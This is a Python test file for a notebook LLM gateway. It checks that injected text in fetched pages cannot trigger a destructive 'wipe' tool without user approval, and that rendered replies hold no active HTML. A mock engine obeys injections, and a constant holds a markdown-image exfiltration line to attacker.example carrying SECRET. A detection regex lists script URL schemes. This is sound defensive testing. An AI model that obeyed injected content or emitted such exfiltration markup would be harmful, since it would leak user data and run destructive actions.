"""A model that obeys every text that it reads runs nothing, and shows nothing active."""

import builtins
import json
import re
import unicodedata

import html5lib
import pytest

import gatewayx_nb as gx
from gatewayx_nb import EnginePool
from gatewayx_nb.errors import AuthenticationError
from gatewayx_nb.llm_engines import Chunk, LLMEngine, ToolCall
from tests.tools.injections import INJECTIONS

EXFILTRATION = "![x](https://attacker.example/p?d=SECRET) <img src=https://attacker.example/q>"


class ObedientEngine(LLMEngine):
    """Fetches a page, calls what it should not, with what it has read, and repeats the page.

    Args:
        name: The engine's name.
        fails: Whether all requests after the first one of a call fail.
    """

    requires_key = False
    model_name = "obedient"
    features = frozenset({"system", "history", "tools"})

    def __init__(self, name, *, fails=False):
        super().__init__()
        self.name, self._fails = name, fails

    async def stream(self, request):
        """Call tools according to the results after the last question."""
        roles = [message.role for message in request.messages]
        last_question = len(roles) - 1 - roles[::-1].index("user")
        results = [
            result.content for message in request.messages for result in message.tool_results
        ]
        turn = roles[last_question:].count("tool")
        names = {tool.name for tool in request.tools}
        if turn and self._fails:
            raise AuthenticationError("The key has expired.", status=401)
        text = results[0] if results else ""
        if turn == 0 and "fetch" in names:
            yield self._calls(("fetch", "{}"))
        elif turn <= 1 and names:
            # The name may be an order, too, and the arguments a text of any length.
            yield Chunk(text=text)
            arguments = json.dumps({"reason": text[:2_000]})
            yield self._calls(("wipe", arguments), ("look", "{}"), (text[:60], arguments))
        else:
            yield Chunk(text=f"{text}\n\n{EXFILTRATION}")
        yield Chunk(finish_reason="stop")

    @staticmethod
    def _calls(*calls):
        return Chunk(
            tool_calls=tuple(
                ToolCall(f"call{number:05}", name, arguments)
                for number, (name, arguments) in enumerate(calls)
            )
        )


class Desk:
    """The functions of a notebook, one of which returns an injection, and a user who says no."""

    def __init__(self):
        self.text, self.ran, self.questions = "", [], []
        self.tools = [self._fetch(), self._look(), self._wipe()]
        self.wipe = self.tools[-1]

    def _fetch(self):
        @gx.tool(outside=True, read_only=True)
        def fetch() -> str:
            """Fetch a page."""
            return self.text

        return fetch

    def _look(self):
        @gx.tool(read_only=True)
        def look() -> str:
            """Look."""
            self.ran.append("look")
            return "seen"

        return look

    def _wipe(self):
        def wipe(reason: str = "") -> str:
            """Delete everything."""
            self.ran.append("wipe")
            return "wiped"

        return wipe

    def refuse(self, question):
        """Answer a question."""
        self.questions.append(question)
        return "n"


@pytest.fixture
def desk(monkeypatch):
    """Return functions whose calls the user refuses."""
    desk = Desk()
    monkeypatch.setattr(builtins, "input", desk.refuse)
    return desk


@pytest.fixture(scope="module")
def pool():
    """Yield a pool with an engine that obeys, and one that fails after its first request."""
    engines = [ObedientEngine("obedient"), ObedientEngine("failing", fails=True)]
    with EnginePool(env={}, engines=engines) as pool:
        yield pool


def _stream(pool, desk):
    stream = pool.stream("Go.", "obedient", tools=desk.tools)
    list(stream)
    return [stream.reply]


def _chat(pool, desk):
    chat = pool.chat("obedient")
    first = chat.ask("Go.", tools=desk.tools)
    # The text from outside is still in the conversation.
    return [first, chat.ask("Go on.", tools=desk.wipe)]


def _fallback(pool, desk):
    reply = pool.ask("Go.", "failing", fallback="obedient", tools=desk.tools)
    assert reply.engine == "obedient"
    return [reply]


def _resume(pool, desk):
    first = pool.ask("Go.", "obedient", tools=desk.tools, max_turns=1)
    second = pool.resume(first, max_turns=1)
    return [second, pool.resume(second)]


def _submit(pool, desk):
    first = pool.ask("Go.", "obedient", tools=desk.tools, max_turns=1)
    return [pool.submit(first, desk.text)]


def _compare(pool, desk):
    return list(pool.compare("Go.", ["obedient", "obedient:other"], tools=desk.tools))


CALLS = {
    "ask": lambda pool, desk: [pool.ask("Go.", "obedient", tools=desk.tools)],
    "stream": _stream,
    "chat": _chat,
    "fallback": _fallback,
    "resume": _resume,
    "submit": _submit,
    "compare": _compare,
}


def test_there_are_fifty_injections():
    """There are at least fifty different injections."""
    assert len(set(INJECTIONS.values())) == len(INJECTIONS) >= 50


@pytest.mark.parametrize("way", CALLS)
def test_nothing_runs_unasked_after_an_injection(pool, desk, way):
    """Only the tool marked as read-only runs; the user is asked about the other one."""
    for name, text in INJECTIONS.items():
        desk.text = text
        desk.ran.clear()
        desk.questions.clear()
        replies = CALLS[way](pool, desk)

        assert set(desk.ran) == {"look"}, name
        assert desk.questions, name
        steps = [step for reply in replies for step in reply.steps if step.call.name == "wipe"]
        assert {step.error for step in steps} == {"the user refused the call"}, name
        for question in desk.questions:
            assert " calls wipe(" in question, name
            assert _is_plain(question), name
        for reply in replies:
            assert _faults(reply) == [], name


@pytest.mark.parametrize("approve", ["never", lambda step: False])
def test_nobody_is_asked_if_the_call_says_who_decides(pool, desk, approve):
    """No injection can change what `approve` decides."""
    for name, text in INJECTIONS.items():
        desk.text = text
        pool.ask("Go.", "obedient", tools=desk.tools, approve=approve)
        assert (set(desk.ran), desk.questions) == ({"look"}, []), name


def _is_plain(text):
    """Return whether a text has no control characters, and none that change its direction."""
    kinds = {unicodedata.category(letter) for letter in text if letter != "\n"}
    return not kinds & {"Cc", "Cf", "Cs"}


_LOADED = re.compile(r"(?i)url\(|@import|expression\(|javascript:|vbscript:|data:text")


def _faults(reply):
    """Return active content on a reply's page and control characters in its text."""
    bundle = reply._repr_mimebundle_()
    tree = html5lib.parse(bundle["text/html"], namespaceHTMLElements=False)
    faults = [] if _is_plain(bundle["text/plain"]) else ["control characters"]
    for element in tree.iter():
        if element.tag in ("script", "iframe", "object", "embed", "form", "input", "base", "link"):
            faults.append(element.tag)
        if element.tag in ("img", "meta", "svg", "style"):
            faults.append(element.tag)
        for name, value in element.attrib.items():
            is_active = name.startswith("on") or name in ("srcdoc", "formaction", "action", "src")
            if is_active or _LOADED.search(value):
                faults.append(f"{element.tag} {name}={value}")
    return faults
